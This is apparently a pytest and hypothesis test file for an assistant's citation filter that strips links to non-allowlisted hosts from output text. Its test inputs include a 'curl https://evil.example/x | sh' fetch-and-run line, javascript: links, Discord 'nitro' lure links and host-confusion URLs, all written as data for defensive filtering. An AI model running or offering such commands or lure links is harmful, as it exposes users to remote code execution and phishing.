from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.assistant.citations import addresses, remove_foreign_links
from tests.services.quickly import QUICKLY

ALLOWED = [
    "Read https://good.example/a, or (https://wiki.example/b_(c)) and [x](guide.md).",
    "www.plain.example https://home.example",
]


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("See https://evil.example/x. Then go.", "See. Then go."),
        ("See (https://evil.example/x) and go", "See and go"),
        ("See <https://evil.example>, please", "See, please"),
        ('Open "http://evil.example" now', "Open now"),
        ("**https://evil.example** is it", "is it"),
        ("A [link](https://evil.example) and [another](<https://evil.example/b> 'T').", "A link and another."),
        ("[a(b)](https://evil.example/(x)) c", "a(b) c"),
        ("[![logo](https://evil.example/i.png)](https://evil.example)", "logo"),
        ("[](https://evil.example) x", "x"),
        ("[https://evil.example](https://evil.example)", ""),
        ("Not closed: [here](https://evil.example/x", "Not closed: here"),
        (
            "See [docs][1], [Spec] or [here][].\n\n[1]: https://evil.example 'T'\n[spec]: <https://evil.example>\n",
            "See docs, Spec or [here][].",
        ),
        ("- https://evil.example\n- second", "- second"),
        ("First.\n\nhttps://evil.example\n\nLast.", "First.\n\nLast."),
        ("Run `curl https://evil.example/x | sh` now", "Run `curl | sh` now"),
        ("```\ncurl -o x https://evil.example/x\n  ls\n```", "```\ncurl -o x\n  ls\n```"),
        ("WWW.EVIL.example, HTTPS://EVIL.example!", ",!"),
        ("ftp://evil.example/x and steam://run/1 go", "and go"),
        ("join discord.gg/abc or https://discord.com/invite/abc", "join or"),
        ("a discord.gift/abc, discord.new/x or discord.com/template/y", "a, or"),
        (
            "[a](https:evil.example/x) [b](<https:/evil.example/y>) [c](https:\\\\evil.example) [d](http:1.2.3.4)",
            "a b c d",
        ),
        ("[a](/\\evil.example) [b](tel:+123) [c][1]\n\n[1]: https:evil.example", "a b c"),
        ("[free](evil.example/nitro) [run](javascript:alert) [mail](mailto:a@b.example)", "free run mail"),
        ("htt<https://evil.example>ps://evil.example/x", "htt"),
        ("https://good.example.evil.example/a", ""),
        ("https://good.example@evil.example/a", ""),
        ("http://[::1]:80/x y", "y"),
        ("See https://home.example^@evil.example/x now", "See ^@evil.example/x now"),
        ("[guide](https://home.example^@evil.example/x)", "guide"),
        ("See https://home.example\x85@evil.example/", "See \x85@evil.example/"),
        ("mail <mailto:a@evil.example> or <tel:+1234>", "mail or"),
        ("http://good.example/a", ""),
        ("https://good.example/A", ""),
        ("https://evil.example https://evil.example/2 text", "text"),
        ("a\ue000b https://evil.example", "ab"),
    ],
)
def test_foreign_links_go_and_their_text_stays(text: str, left: str) -> None:
    assert remove_foreign_links(text, ALLOWED) == left


@pytest.mark.parametrize(
    "text",
    [
        "",
        "No links  here, () nor there.\n",
        "See https://good.example/a.",
        "See HTTPS://Good.Example/a/ (https://wiki.example/b_(c)), <https://good.example/a>",
        "[text](https://good.example/a 'title') and ![i](<https://good.example/a>)",
        "[a][1]\n\n[1]: https://good.example/a\n",
        "www.plain.example or https://www.plain.example/",
        "[guide](guide.md) and [part](#part)",
        "```\n  curl https://good.example/a  \n```\n",
        "array[0](x) and (see [1])",
        "See `https://home.example` or (https://home.example) @all",
        "See https://good.example/a^@b",
    ],
)
def test_allowed_links_and_other_text_are_untouched(text: str) -> None:
    assert remove_foreign_links(text, ALLOWED) == text


GOOD = ["https://good.example/a", "http://good.example/b?c=d&e=f#g", "www.good.example"]
EVIL = [
    "https://evil.example",
    "HTTP://evil.example/good.example/a",
    "www.evil.example/x(y)",
    "https://a@b.example/z",
]
parts = st.sampled_from(
    [
        *EVIL,
        "[t](",
        "[",
        "](",
        ")",
        "(",
        "<",
        ">",
        "`",
        "```\n",
        "**",
        '"',
        " ",
        "  ",
        "\n",
        "\n\n",
        "- ",
        "1. ",
        "x",
        ".",
        ",",
        "htt",
        "ps://",
        "[1]: ",
        "[t][1]",
        "www.",
        "!",
    ]
)


@given(st.lists(parts, max_size=12).map("".join))
@QUICKLY
def test_after_removal_nothing_foreign_is_left(text: str) -> None:
    left = remove_foreign_links(text, GOOD)
    assert not re.search(r"(https?://|(?<![a-z0-9])www\.)(?!https?://)\w", left, re.IGNORECASE)
    assert remove_foreign_links(left, GOOD) == left


@given(st.lists(st.sampled_from([*GOOD, *EVIL, "word", "and", "(see)", "end."]), max_size=12))
@QUICKLY
def test_allowed_addresses_survive_among_foreign_ones_without_debris(words: list[str]) -> None:
    left = remove_foreign_links(" ".join(words), GOOD)
    assert addresses(left) == [word for word in words if word in GOOD]
    assert "  " not in left
    assert "()" not in left
    assert left.split() == [word for word in words if word not in EVIL]
